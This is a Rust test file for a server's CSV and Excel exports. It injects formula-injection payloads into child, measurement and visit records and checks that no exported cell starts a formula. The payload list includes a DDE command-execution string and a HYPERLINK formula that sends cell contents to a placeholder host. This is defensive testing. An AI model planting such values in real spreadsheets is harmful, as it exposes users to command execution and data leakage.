//! Whatever is typed into a field, no cell of a file starts a formula, and the text is all there.

use super::support::{JARAI, Office, SADAN, csv_rows};
use calamine::{DataType, Reader, Xlsx, open_workbook_from_rs};
use serde_json::{Value, json};
use server::export::formula::unguard;
use std::collections::BTreeSet;
use std::io::Cursor;
use sync_protocol::record::{Kind, Shape};

const PAYLOADS: [&str; 26] = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"klik\")",
    "+62 812-3456",
    "+1+1",
    "-",
    "-2+3",
    "-cmd|'/C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u{A0}=1+1",
    "\u{FEFF}=1+1",
    "\u{200B}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "\"=1+1",
    "x;=1+1",
    "x,=1+1",
    "x\n=1+1",
    "x\";=1+1;\"",
];

/// A body whose every text is one payload. Nothing else is wrong with it.
fn poisoned(kind: Kind, payload: &str) -> Value {
    let mut body = serde_json::Map::new();
    for field in kind.fields() {
        let value = match field.shape {
            Shape::Text if field.required => json!(format!("{payload} nama")),
            Shape::Text => json!(payload),
            Shape::Texts => json!([payload, payload]),
            Shape::Object => json!({"kind": payload}),
            Shape::Choice(words) => json!(words[0]),
            Shape::Date | Shape::PastDate => json!("2026-11-20"),
            Shape::Whole { min, .. } => json!(min),
            Shape::Flag => json!(true),
            Shape::Id => continue,
        };
        body.insert(field.name.to_owned(), value);
    }
    Value::Object(body)
}

fn poisoned_office(office: &Office) {
    let mut tablet = office.tablet("Siti", &[JARAI]);
    for payload in PAYLOADS {
        let id = tablet.child(SADAN, poisoned(Kind::CHILD, payload));
        tablet.add("measurement", id, poisoned(Kind::MEASUREMENT, payload));
        tablet.add("visit", id, poisoned(Kind::VISIT, payload));
    }
}

const FILES: [&str; 6] =
    ["children", "measurements", "visits", "eppgbm-identitas", "eppgbm-pengukuran", "eppgbm-bnba"];

/// What a spreadsheet may take for a formula, written apart from the program's own rule. A number
/// is a number, also below zero.
fn is_formula(cell: &str) -> bool {
    if cell.parse::<f64>().is_ok() {
        return false;
    }
    let bare = cell.trim_start_matches([' ', '"', '\u{A0}', '\u{FEFF}', '\u{200B}', '\t', '\r']);
    bare.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

#[test]
fn no_cell_of_a_csv_file_starts_a_formula_and_every_text_is_whole() {
    let office = Office::new();
    poisoned_office(&office);
    let token = office.penyelia(&[JARAI]);
    for name in FILES {
        for separator in [b',', b';'] {
            let address = format!("/v1/export/{name}.csv?separator=%{separator:02X}&bom=1&note=1");
            let bytes = office.file(&token, &address);
            let rows = csv_rows(&bytes, separator);
            assert_eq!(rows.len(), PAYLOADS.len() + 2, "{name}");
            for cell in rows.iter().flatten() {
                assert!(!is_formula(cell), "{name}: {cell:?}");
                assert!(!cell.starts_with(['\t', '\r', '\n']), "{name}: {cell:?}");
            }
            let texts: BTreeSet<_> =
                rows.iter().flatten().map(|cell| unguard(cell).into_owned()).collect();
            for payload in PAYLOADS {
                let named = format!("{payload} nama");
                assert!(texts.contains(&named) || texts.contains(payload), "{name}: {payload:?}");
            }
            // Opened with a wrong separator, or quotes not understood, it is as harmless.
            let text = String::from_utf8(bytes).unwrap();
            for wrong in [',', ';', '\t', '\n'] {
                for cell in text.split([wrong, '\n', '\r']) {
                    assert!(!is_formula(cell), "{name} split at {wrong:?}: {cell:?}");
                }
            }
        }
    }
}

#[test]
fn no_cell_of_a_workbook_is_a_formula_and_every_text_is_as_typed() {
    let office = Office::new();
    poisoned_office(&office);
    let token = office.penyelia(&[JARAI]);
    for name in FILES {
        let bytes = office.file(&token, &format!("/v1/export/{name}.xlsx"));
        let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
        for sheet in book.sheet_names() {
            let formulas = book.worksheet_formula(&sheet).unwrap();
            assert_eq!(formulas.used_cells().count(), 0, "{name} {sheet}");
        }
        let sheet = book.worksheet_range(name).unwrap();
        assert_eq!(sheet.rows().count(), PAYLOADS.len() + 1, "{name}");
        let texts: BTreeSet<&str> =
            sheet.cells().filter_map(|(_, _, cell)| cell.get_string()).collect();
        for payload in PAYLOADS {
            let named = format!("{payload} nama");
            assert!(texts.contains(named.as_str()), "{name}: {payload:?}");
        }
    }
}
